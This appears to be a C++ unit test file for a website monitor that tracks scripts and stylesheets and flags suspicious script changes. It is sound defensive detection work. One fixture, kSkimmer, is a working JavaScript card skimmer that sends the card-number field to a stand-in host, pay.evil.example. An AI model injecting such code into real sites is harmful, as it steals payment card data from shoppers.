#include "sites/watch/resource_watch.h"

#include <gtest/gtest.h>

namespace vedette::sites {
namespace {

const Asset kAsset{"site", "s1", "Example"};
constexpr std::string_view kPage = "https://www.example.org/";
constexpr std::string_view kHtml =
    "<html><head><link rel=stylesheet href=/style.css><script src=/app.js?v=1></script>"
    "<script src=https://cdn.example.net/lib.js></script><link rel=canonical href=/x></head></html>";
const std::string kApp = "https://www.example.org/app.js";

class ResourceWatch : public ::testing::Test {
 protected:
  void SetUp() override { see_links(state_, kHtml, kPage, "text/html"); }
  std::vector<Condition> visit(std::string_view body, const std::string& url = kApp, bool window = false) {
    state_ = resources_from_json(resources_to_json(state_));  // through the store's form
    clock_.advance(std::chrono::minutes(10));
    auto seen = see_resource(state_, url, body, kPage, kAsset, clock_.wall(), window);
    script_changed_ = seen.script_changed;
    return std::move(seen.events);
  }
  bool script_changed_ = false;  // at the last visit
  ManualClock clock_;
  ResourceState state_;
};

constexpr std::string_view kPlain =
    "function menu(){document.getElementById('m').hidden=false} fetch('/api');";
const std::string kSkimmer =
    std::string(kPlain) +
    "document.addEventListener('input',function(e){navigator.sendBeacon('https://pay.evil.example/c',"
    "document.querySelector('input[name=cardnumber]').value)});";

TEST_F(ResourceWatch, TakesScriptsAndStylesheetsAndKeepsThemAcrossCacheBusters) {
  ASSERT_EQ(state_.resources.size(), 3u);
  visit(kPlain);
  std::string later(kHtml);
  later.replace(later.find("v=1"), 3, "v=2");
  see_links(state_, later, kPage, "text/html");
  ASSERT_EQ(state_.resources.size(), 3u);
  EXPECT_EQ(state_.resources[1].visits, 1);
  see_links(state_, "<html></html>", kPage, "text/html");
  EXPECT_TRUE(state_.resources.empty());
}

TEST_F(ResourceWatch, VisitsWhatWaitedLongestFirst) {
  visit(kPlain);
  auto next = next_visits(state_);
  ASSERT_EQ(next.size(), 3u);
  EXPECT_EQ(next.back(), "https://www.example.org/app.js?v=1");
}

TEST_F(ResourceWatch, AScriptThatChangesIsASuspicionUnlessItAlwaysDoes) {
  for (int i = 0; i < 4; ++i) {
    visit(kPlain);
    EXPECT_FALSE(script_changed_) << i;
  }
  EXPECT_TRUE(visit(std::string(kPlain) + "/* 2 */").empty());
  EXPECT_TRUE(script_changed_);
  for (int i = 0; i < 8; ++i) visit(std::string(kPlain) + "let n=" + std::to_string(i));
  EXPECT_FALSE(script_changed_);
  const std::string style = "https://www.example.org/style.css";
  visit("p{}", style);
  visit("p{color:red}", style);
  EXPECT_FALSE(script_changed_);
}

TEST_F(ResourceWatch, AStableScriptThatReachesOutToANewHostIsReportedOnce) {
  for (int i = 0; i < 4; ++i) EXPECT_TRUE(visit(kPlain).empty());
  auto seen = visit(kSkimmer);
  ASSERT_EQ(seen.size(), 1u);
  EXPECT_EQ(seen[0].kind, "script_changed");
  EXPECT_EQ(seen[0].severity, Severity::kHigh);
  EXPECT_NE(seen[0].after.find("pay.evil.example"), std::string::npos);
  EXPECT_TRUE(visit(kSkimmer).empty());
  EXPECT_TRUE(visit(kPlain).empty());
  EXPECT_TRUE(visit(kSkimmer).empty());
}

TEST_F(ResourceWatch, AnOrdinaryReleaseIsNoNews) {
  for (int i = 0; i < 4; ++i) visit(kPlain);
  EXPECT_TRUE(
      visit(std::string(kPlain) + "function footer(){return 'https://www.example.org/imprint'}").empty());
  EXPECT_EQ(state_.resources[1].changes, 1);
}

TEST_F(ResourceWatch, AScriptThatAlwaysChangesIsVolatile) {
  for (int i = 0; i < 6; ++i) {
    EXPECT_TRUE(
        visit("var t=" + std::to_string(i) + ";load('https://a" + std::to_string(i) + ".ads.example/')")
            .empty());
  }
  EXPECT_TRUE(is_volatile(state_.resources[1]));
}

TEST_F(ResourceWatch, AChangeWindowLearns) {
  for (int i = 0; i < 4; ++i) visit(kPlain);
  EXPECT_TRUE(visit(kSkimmer, kApp, true).empty());
  EXPECT_TRUE(visit(kSkimmer).empty());
}

}  // namespace
}  // namespace vedette::sites
